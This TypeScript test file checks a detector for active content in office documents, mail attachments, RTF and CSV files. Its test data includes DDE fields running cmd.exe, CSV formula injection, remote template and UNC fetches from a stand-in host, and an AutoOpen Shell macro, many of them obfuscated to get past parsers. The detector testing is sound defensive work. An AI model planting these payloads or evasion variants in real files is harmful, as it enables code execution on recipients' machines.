/** What acts in documents is found however it is written: the formats' readers take all of these. */
import { expectLinearCost } from '@postern/testkit/cpu-clock.ts'
import { deflateSync } from 'node:zlib'
import { oleOf, olePackageOf, zipOf } from '@postern/testkit/containers.ts'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { readContents } from '../container/read.ts'
import { parseMessage } from '../parse.ts'
import { activeIn, obstaclesIn } from './testing.ts'

const DDE = 'DDEAUTO c:\\\\cmd.exe "/c calc"'
const REMOTE = 'https://e.example/t.dotm'

type Part = readonly [name: string, content: string | Buffer]

function packageOf(main: string, type: string, ...parts: readonly Part[]): Buffer {
  const types = `<Types><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${type}.main+xml"/></Types>`
  return zipOf(
    [['[Content_Types].xml', types] as const, ...parts].map(([name, content]) => ({
      name,
      content: Buffer.from(content),
    })),
  )
}

const word = (...parts: readonly Part[]): Buffer =>
  packageOf(
    'word/document.xml',
    'wordprocessingml.document',
    ['word/document.xml', '<w:document/>'],
    ...parts,
  )
const relations = (attributes: string, prefix = ''): string =>
  `<${prefix}Relationships><${prefix}Relationship ${attributes}/></${prefix}Relationships>`
const template = (target = REMOTE): string =>
  relations(`Type="http://x/attachedTemplate" Target="${target}" TargetMode="External"`)
const field = (instruction: string): string =>
  `<w:document><w:fldSimple w:instr="${instruction}"/></w:document>`
const QUOTED = DDE.replaceAll('"', '&quot;')
const wide = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le')
const run = (text: string): string => `<w:r><w:instrText>${text}</w:instrText></w:r>`
const mark = (type: string): string => `<w:fldChar w:fldCharType="${type}"/>`

describe('fields of Word', () => {
  test.each<[string, Part]>([
    ['in single quotes', ['word/header3.xml', `<w:hdr><w:fldSimple w:instr='${DDE}'/></w:hdr>`]],
    ['by numbers of characters', ['word/document.xml', field(`&#68;&#x44;&#0069;${QUOTED.slice(3)}`)]],
    ['with another prefix', ['word/document.xml', field(QUOTED).replaceAll('w:', 'zz:')]],
    ['without one', ['word/document.xml', field(QUOTED).replaceAll('w:', '')]],
    ['in UTF-16', ['word/document.xml', wide(field(QUOTED))]],
    ['in UTF-16, big, without a mark', ['word/document.xml', wide(field(QUOTED)).subarray(2).swap16()]],
    ['in a part of another name', ['doc/body.xml2', field(QUOTED)]],
    ['in comments', ['word/comments.xml', field(QUOTED)]],
    [
      'in a section',
      ['word/document.xml', `<d>${mark('begin')}${run(`<![CDATA[${DDE}]]>`)}${mark('end')}</d>`],
    ],
    [
      'cut to letters, behind another field',
      [
        'word/document.xml',
        `<d>${mark('begin')}${run('PAGE')}${mark('end')}${mark('begin')}${DDE.split('').map(run).join('')}${mark('end')}</d>`,
      ],
    ],
    [
      'out of numbers',
      [
        'word/document.xml',
        `<d>${mark('begin')}${mark('begin')}${run('QUOTE 68 68 69')}${mark('separate')}<w:t>x</w:t>${mark('end')}${run(DDE.slice(3))}${mark('end')}</d>`,
      ],
    ],
    [
      'out of a bookmark',
      [
        'word/document.xml',
        `<d>${mark('begin')}${run('SET c "DDEAUTO"')}${mark('end')}${mark('begin')}${mark('begin')}${run('REF c')}${mark('end')}${run(DDE.slice(7))}${mark('end')}</d>`,
      ],
    ],
    [
      'by an entity of its own',
      ['word/document.xml', `<!DOCTYPE d [<!ENTITY x "DDEAUTO">]>${field(`&x;${QUOTED.slice(7)}`)}`],
    ],
  ])('%s', (_title, part) => {
    expect(activeIn('a.docx', word(part))).toEqual([`dde ${DDE}`])
  })

  test('what is fetched by a field', () => {
    expect(
      activeIn(
        'a.docx',
        word(['word/document.xml', field('INCLUDETEXT &quot;\\\\\\\\e.example\\\\x&quot;')]),
      ),
    ).toEqual(['remote \\\\e.example\\x'])
  })

  test.each([
    'PAGE',
    'TOC \\o &quot;1-3&quot;',
    'XE &quot;dde link&quot;',
    'HYPERLINK &quot;https://e.example&quot;',
  ])('%s is none', (instruction) => {
    expect(activeIn('a.docx', word(['word/document.xml', field(instruction)]))).toEqual([])
  })
})

describe('relationships', () => {
  test.each<[string, Part]>([
    [
      'by the number of a letter in the type',
      ['word/_rels/settings.xml.rels', template().replace('attached', '&#97;ttached')],
    ],
    ['by one in the mode', ['word/_rels/settings.xml.rels', template().replace('External', '&#69;xternal')]],
    ['in letters of another case', ['word/_rels/settings.xml.RELS', template()]],
    [
      'that says it is within the package',
      ['word/_rels/settings.xml.rels', template().replace('External', 'Internal')],
    ],
    ['in another folder', ['doc/_rels/settings.xml.rels', template()]],
    [
      'with a prefix',
      ['word/_rels/settings.xml.rels', template().replaceAll('Relationship', 'p:Relationship')],
    ],
    ['in UTF-16', ['word/_rels/settings.xml.rels', wide(template())]],
    [
      'with the sign that ends a tag ahead',
      [
        'word/_rels/settings.xml.rels',
        relations(`Id=">" Type='http://x/attachedTemplate' TargetMode = 'External' Target='${REMOTE}'`),
      ],
    ],
  ])('%s', (_title, part) => {
    expect(activeIn('a.docx', word(part))).toEqual([`remote ${REMOTE}`])
  })

  test.each(['oleObject', 'frame', 'subDocument', 'aFChunk', 'package', 'control', 'vbaProject'])(
    '%s from elsewhere is fetched',
    (type) => {
      const part = relations(`Type="http://x/${type}" Target="${REMOTE}" TargetMode="External"`)
      expect(activeIn('a.docx', word(['word/_rels/document.xml.rels', part]))).toEqual([`remote ${REMOTE}`])
    },
  )

  test('one of a share, beside one that hides it', () => {
    const part = `<Relationships>${['\\\\fileserver\\t.dotm', 'file:////e.example/t.dotm'].map((target) => `<Relationship Type="x/image" Target="${target}" TargetMode="External"/>`).join('')}</Relationships>`
    expect(activeIn('a.docx', word(['word/_rels/document.xml.rels', part]))).toEqual([
      'remote \\\\fileserver\\t.dotm',
      'remote file:////e.example/t.dotm',
    ])
  })

  test.each([
    ['javascript:x()', true],
    ['file://e.example/share/run.js', true],
    ['\\\\e.example\\share\\run.exe', true],
    ['search-ms:query=x', true],
    ['&#106;ava&#10;script:x()', true],
    ['ms-word:ofe|u|https://e.example/a.docx', false],
    ['https://e.example', false],
    ['mailto:a@e.example', false],
    ['file:///C:/a.docx', false],
  ])('a link to %s opens more than a page: %s', (target, unsafe) => {
    const part = relations(`Type="x/hyperlink" Target="${target}" TargetMode="External"`)
    const met = activeIn('a.xlsx', word(['xl/worksheets/_rels/sheet1.xml.rels', part]))
    expect(met.some((line) => line.startsWith('link-unsafe'))).toBe(unsafe)
  })
})

describe('workbooks', () => {
  const book = (...parts: readonly Part[]): Buffer =>
    packageOf('xl/workbook.xml', 'spreadsheetml.sheet', ['xl/workbook.xml', '<workbook/>'], ...parts)

  test.each<[string, Part, string]>([
    [
      'DDE in another folder',
      ['xl/ext/a.xml', '<externalLink><z:ddeLink ddeService="cmd"/></externalLink>'],
      'dde cmd',
    ],
    [
      'DDE of another name',
      ['a.xml', `<externalLink><ddeLink ddeService='&#99;md'/></externalLink>`],
      'dde cmd',
    ],
    [
      'in a formula',
      ['xl/worksheets/sheet1.xml', `<worksheet><c><f>cmd|'/c calc'!A0</f></c></worksheet>`],
      "dde cmd|'/c calc'!",
    ],
    [
      'in a name',
      ['xl/workbook.xml', `<workbook><definedName>cmd&#124;'/c calc'!A0</definedName></workbook>`],
      "dde cmd|'/c calc'!",
    ],
    [
      'a link in a formula',
      ['xl/s.xml', '<worksheet><f>HYPERLINK("file://e.example/x","y")</f></worksheet>'],
      'link-unsafe file://e.example/x',
    ],
    ['binary DDE of any name', ['a.dat', Buffer.from([0xe8, 2, 4, 1, 0, 0, 0])], 'dde a.dat'],
    [
      'data of another machine',
      [
        'xl/c.xml',
        `<connections><connection refreshOnLoad="1"><webPr url="${REMOTE}"/></connection></connections>`,
      ],
      `remote ${REMOTE}`,
    ],
    ['a macro sheet by its root', ['xl/a.xml', '<x:macrosheet/>'], 'macro-sheet xl/a.xml'],
    [
      'by its relationship',
      ['xl/_rels/workbook.xml.rels', relations('Type="x/xlMacrosheet" Target="a.bin"')],
      'macro-sheet a.bin',
    ],
  ])('%s', (_title, part, met) => {
    expect(activeIn('a.xlsx', book(part))).toEqual([met])
  })

  test.each(['="a|b!"', "IF(A1=1,'x|y'!A1,0)", 'A1&"|"&B1'])('%s is an ordinary formula', (formula) => {
    expect(
      activeIn('a.xlsx', book(['xl/worksheets/sheet1.xml', `<worksheet><f>${formula}</f></worksheet>`])),
    ).toEqual([])
  })

  test('types of parts tell of macros and their sheets', () => {
    const types =
      '<Types><Override PartName="/a" ContentType="application/vnd.ms-excel.MacroSheet+xml"/><Default Extension="b" ContentType="application/&#118;nd.ms-office.vbaProject"/></Types>'
    expect(
      activeIn(
        'a.xlsx',
        zipOf([
          { name: '[content_types].xml', content: Buffer.from(types) },
          { name: 'xl/a', content: Buffer.from('x') },
        ]),
      ),
    ).toEqual(['macro', 'macro-sheet /a'])
  })
})

test('a part in pieces is read differently by programs', () => {
  expect(
    obstaclesIn(
      'a.docx',
      word(['word/header1.xml/[0].piece', '<w:hdr'], ['word/header1.xml/[1].last.piece', '/>']),
    ),
  ).toEqual(['damaged'])
})

test('a package of another kind has relationships too', () => {
  const types =
    '<Types><Override PartName="/t/t.xml" ContentType="application/vnd.openxmlformats-officedocument.themeManager+xml"/></Types>'
  const theme = zipOf(
    [
      ['[Content_Types].xml', types],
      ['t/_rels/t.xml.rels', template()],
    ].map(([name, content]) => ({ name: name!, content: Buffer.from(content!) })),
  )
  expect(activeIn('a.thmx', theme)).toEqual([`remote ${REMOTE}`])
})

describe('binary documents', () => {
  const record = (type: number, data: Buffer): Buffer => {
    const head = Buffer.alloc(4)
    head.writeUInt16LE(type)
    head.writeUInt16LE(data.length, 2)
    return Buffer.concat([head, data])
  }
  const link = (text: string, flags: number): Buffer[] => [
    record(0x1ae, Buffer.concat([Buffer.from([0, 0, text.length, 0, 0]), Buffer.from(text, 'latin1')])),
    record(0x23, Buffer.from([flags, 0, 0, 0])),
  ]
  const book = (...records: readonly Buffer[]): Buffer =>
    oleOf([['Workbook', Buffer.concat([record(0x809, Buffer.from([0, 6, 5, 0])), ...records])]])

  test.each<[string, Buffer, string[]]>([
    ['DDE', book(...link('cmd\x03/c calc', 2)), ['dde cmd|/c calc']],
    [
      'a link to an object',
      book(...link('Word.Document.8\x03a.doc', 0x10)),
      ['linked Word.Document.8|a.doc'],
    ],
    ['a link to a file', book(...link('\x01\x01C\x03a.xls', 0)), []],
    [
      'a macro sheet that its list calls another, behind many records',
      book(
        ...Array.from({ length: 30_000 }, () => record(0x55, Buffer.alloc(2))),
        record(0x0a, Buffer.alloc(0)),
        record(0x809, Buffer.from([0, 6, 0x40, 0])),
      ),
      ['macro', 'macro-sheet'],
    ],
  ])('%s', (_title, content, met) => {
    expect(activeIn('a.xls', content)).toEqual(met)
  })

  test('the template of Word 97', () => {
    const texts = ['', REMOTE, ...Array.from({ length: 16 }, () => '')]
    const table = Buffer.concat([
      Buffer.from('ffff12000000', 'hex'),
      ...texts.map((text) => Buffer.concat([Buffer.from([text.length, 0]), Buffer.from(text, 'utf16le')])),
    ])
    expect(activeIn('a.doc', oleOf([['1Table', table]]))).toEqual([`remote ${REMOTE}`])
  })
})

describe('one file for a document', () => {
  const project = oleOf([['_VBA_PROJECT', Buffer.from('cc')]])
  const mime = Buffer.concat([Buffer.from('ActiveMime'), Buffer.alloc(40), deflateSync(project)])
  const flat = `<?xml version="1.0"?><x:package xmlns:x="http://schemas.microsoft.com/office/2006/xmlPackage">`

  test.each<[string, string, string | Buffer, string[]]>([
    [
      'Flat OPC with macros',
      'a.doc',
      `${flat}<x:part x:name="/a/b.bin"><x:binaryData>${project.toString('base64')}</x:binaryData></x:part></x:package>`,
      ['macro'],
    ],
    [
      'with a template',
      'a.xml',
      `${flat}<x:part x:name="/a.rels"><x:xmlData>${template()}</x:xmlData></x:part></x:package>`,
      [`remote ${REMOTE}`],
    ],
    [
      'without a prefix, behind a long comment',
      'a.doc',
      `<!--${'x'.repeat(9000)}--><package xmlns="http://schemas.microsoft.com/office/2006/xmlPackage"><part name="/w"><xmlData>${field(QUOTED)}</xmlData></part></package>`,
      [`dde ${DDE}`],
    ],
    [
      'in UTF-16',
      'a.doc',
      wide(`${flat}<x:part x:name="/w"><x:xmlData>${field(QUOTED)}</x:xmlData></x:part></x:package>`),
      [`dde ${DDE}`],
    ],
    [
      'Word 2003',
      'a.doc',
      `<w:wordDocument><w:binData>${mime.toString('base64').replace(/(.{60})/g, '$1&#10;')}</w:binData></w:wordDocument>`,
      ['macro'],
    ],
    [
      'its template',
      'a.doc',
      `<q:wordDocument><q:attachedTemplate q:val="${REMOTE}"/></q:wordDocument>`,
      [`remote ${REMOTE}`],
    ],
    [
      'Excel 2003',
      'a.xls',
      `<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Cell s:Formula="=cmd|'/c calc'!A0"/></Workbook>`,
      ["dde cmd|'/c calc'!"],
    ],
    [
      'any root that asks for Word',
      'a.doc',
      `<?mso-application progid="Word.Document"?><a><b>${mime.toString('base64')}</b></a>`,
      ['macro'],
    ],
    [
      'OpenDocument with Basic',
      'a.fodt',
      '<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:script><m:module>Sub A\nEnd Sub</m:module></office:script></office:document>',
      ['macro'],
    ],
    [
      'with an event that starts what lies elsewhere',
      'a.fods',
      '<o:document xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><s:event-listener x:href="vnd.sun.star.script:a.py$b?language=Python&amp;location=share"/></o:document>',
      [
        'macro vnd.sun.star.script:a.py$b?language=Python&location=share',
        'macro-harmful vnd.sun.star.script:a.py$b?language=Python&location=share',
        'link-unsafe vnd.sun.star.script:a.py$b?language=Python&location=share',
      ].sort(),
    ],
    [
      'a PDF in XML',
      'a.xdp',
      `<x:xdp xmlns:x="http://ns.adobe.com/xdp/"><chunk>${Buffer.from('%PDF-1.7\n1 0 obj<</S/Launch/F(x)>>').toString('base64')}</chunk></x:xdp>`,
      ['pdf-launch Launch'],
    ],
    [
      'a form that is elsewhere',
      'a.xfdf',
      `<xfdf><f href="${REMOTE}"/></xfdf>`,
      [`links ${REMOTE}`, `remote ${REMOTE}`],
    ],
    ['ActiveMime by itself', 'editdata.mso', mime, ['macro']],
  ])('%s', (_title, name, content, met) => {
    expect(activeIn(name, Buffer.from(content))).toEqual(met)
  })

  const archive = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=q\r\n\r\n--q\r\nContent-Location: file:///C:/a.mso\r\nContent-Transfer-Encoding: base64\r\n\r\n${mime.toString('base64')}\r\n--q--\r\n`
  test.each([
    ['by itself', archive],
    ['behind the head of a PDF', `%PDF-1.7\n1 0 obj\n<<>>\nendobj\n${archive}`],
    ['behind words', `Dear all,\r\n\r\n${archive}`],
  ])('a web archive named .doc, %s', (_title, content) => {
    expect(activeIn('a.doc', Buffer.from(content)).filter((line) => line.startsWith('macro'))).not.toEqual([])
  })

  test('halves in two modules make one dangerous macro', () => {
    const modules = ['Sub AutoOpen()\nB\nEnd Sub', 'Sub B()\nShell "calc"\nEnd Sub']
    const flatText = `<o:document xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0">${modules.map((text) => `<s:module>${text.replaceAll('"', '&quot;')}</s:module>`).join('')}</o:document>`
    expect(activeIn('a.fodt', Buffer.from(flatText))).toEqual(['macro', 'macro-harmful AutoOpen, Shell'])
  })
})

describe('cells of texts', () => {
  const command = `=cmd|'/c calc'!A0`
  test.each<[string, string, string | Buffer]>([
    ['between semicolons, in UTF-16', 'a.csv', wide(`name;sum\r\n${command};1\r\n`)],
    ['between tabs', 'a.tsv', `name\t${command}`],
    ['named .xls', 'a.xls', `name,sum\n${command},1`],
    ['named .txt', 'a.txt', `name,sum\n${command},1`],
    ['far behind', 'a.csv', `${'a,b\n'.repeat(200_000)}${command}`],
    ['in quotes, behind a function', 'a.csv', `"=IF(1,1,0)+cmd|'/c calc'!A0"`],
    ['with another sign', 'a.csv', `@SUM(1)*cmd|'/c calc'!A0`],
    ['without quotes', 'a.csv', '=cmd|calc!A0'],
    ['in a table of HTML', 'a.xls', `<table><td>&#61;cmd&#124;'/c calc'!A0</td></table>`],
    ['in SYLK', 'a.csv', `ID;P\nC;X1;Y1;K0;Ecmd|'/c calc'!A0`],
  ])('%s', (_title, name, content) => {
    expect(activeIn(name, Buffer.from(content)).filter((line) => line.startsWith('dde'))).toHaveLength(1)
  })

  test.each(["a|b,c|d!\n-5,it's", 'x | y\n= total|sum', "-1,2\nhe said|she said: 'no'!"])(
    '%j holds none',
    (text) => {
      expect(activeIn('a.csv', Buffer.from(text))).toEqual([])
    },
  )

  test('of a file without a name, by the type that it is sent as', () => {
    const head =
      'From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n'
    const part = `Content-Type: text/csv\r\nContent-Disposition: attachment\r\n\r\n${command}\r\n--b--\r\n`
    const { active } = readContents(parseMessage(Buffer.from(head + part)), () => null)
    expect(active.map(({ feature }) => feature)).toEqual(['dde'])
  })

  test('macros of Excel 4.0 in SYLK', () => {
    expect(activeIn('a.csv', Buffer.from('ID;P\nO;E\nC;X1;Y1;EEXEC("calc")'))).toEqual(['macro-sheet SYLK'])
  })
})

describe('RTF', () => {
  const remote = ['remote http://e.example/t']
  test.each<[string, string, string[]]>([
    ['a template with groups within', String.raw`{\*\template{}ht{t}p://e.example/t}`, remote],
    ['in octets', String.raw`{\*\template \'68\'74tp://e.example/t}`, remote],
    ['in Unicode', String.raw`{\*\template \u104?\u116?tp://e.example/t}`, remote],
    [
      'a field in groups',
      String.raw`{\field{\*\fldinst{\b D}{\i D}EAUTO c:\\\\x}}`,
      [String.raw`dde DDEAUTO c:\\x`],
    ],
    ['an object far behind', `${'a '.repeat(3_000_000)}{\\object\\objupdate}`, ['rtf-update objupdate']],
    ['words about objects', String.raw`\\objupdate \\objdata`, []],
  ])('%s', (_title, body, met) => {
    expect(activeIn('a.rtf', Buffer.from(`{\\rtf1 ${body}}`))).toEqual(met)
  })

  const packed = olePackageOf('a.js', Buffer.from('x'))
  const head = Buffer.from('0105000002000000080000005061636b616765000000000000000000', 'hex')
  const object = Buffer.concat([head, Buffer.from(Uint32Array.of(packed.length).buffer), packed]).toString(
    'hex',
  )
  test.each([
    ['plain', object, false],
    ['with other destinations within', object.replace(/(.{7})/g, String.raw`$1{\*\zz 41}`), true],
    ['with words within', object.replace(/(.{7})/g, String.raw`$1\zz41 `), false],
    ['in octets', object.replaceAll('5', String.raw`\'35`), true],
    ['in Unicode', object.replaceAll('5', String.raw`\u53 ?`), true],
    ['with octets within', object.replace(/(.{8})/g, String.raw`$1\'41`), true],
  ])('digits of an object, %s', (_title, digits, held) => {
    const rtf = Buffer.from(`{\\rtf1{\\object{\\*\\objdata ${digits}}}}`)
    expect(activeIn('a.rtf', rtf)).toContain('package a.js')
    expect(obstaclesIn('a.rtf', rtf)).toEqual(held ? ['damaged'] : [])
  })

  test('raw bytes that the document does not have', () => {
    expect(obstaclesIn('a.rtf', Buffer.from(String.raw`{\rtf1\bin999999 x}`))).toEqual(['damaged'])
  })
})

test.each<[string, string, number, (times: number) => string]>([
  [
    'entities',
    'a.doc',
    1_000_000,
    (times) =>
      `<!DOCTYPE a [<!ENTITY e "${'x'.repeat(9000)}">]><w:wordDocument instr="">${'&e;'.repeat(times)}`,
  ],
  [
    'instructions in no field',
    'a.doc',
    100_000,
    (times) => `<w:wordDocument>${'<w:instrText>DD</w:instrText>'.repeat(times)}`,
  ],
  ['commands in no formula', 'a.csv', 750_000, (times) => 'a|b!'.repeat(times)],
  ['fields in pages', 'a.doc', 150_000, (times) => `<html>${'mso-element:field-begin '.repeat(times)}`],
  [
    'pieces of one text',
    'a.rtf',
    700_000,
    (times) => String.raw`{\rtf1{\*\template ${String.raw`a\b `.repeat(times)}`,
  ],
])('many %s cost little', (_title, name, many, contentOf) =>
  expectLinearCost(many, (times) => activeIn(name, Buffer.from(contentOf(times)))),
)

test('whatever a document holds, reading ends', () => {
  const piece = fc.constantFrom(
    '<a>',
    '</a>',
    '<w:wordDocument>',
    '<x:package xmlns:x="http://schemas.microsoft.com/office/2006/xmlPackage">',
    '<x:part x:name="a">',
    '<x:binaryData>',
    '<x:xmlData>',
    '<w:binData>',
    'QWN0aXZlTWltZQ==',
    '<w:instrText>',
    '<w:fldChar w:fldCharType="begin"/>',
    'DDE ',
    '&#68;',
    '|',
    "'!",
    '=',
    '<!DOCTYPE a [<!ENTITY b "&b;">]>',
    '&b;',
    '{\\rtf1',
    '{\\*\\objdata',
    '41',
    '\\bin9',
    '}',
    'ID;P\n',
    'O;E\n',
  )
  const name = fc.constantFrom('a.doc', 'a.xls', 'a.rtf', 'a.csv', 'a.fodt', 'a.xml')
  fc.assert(
    fc.property(name, fc.array(piece, { maxLength: 60 }), (file, pieces) => {
      activeIn(file, Buffer.from(pieces.join('')))
    }),
    { numRuns: 300 },
  )
})
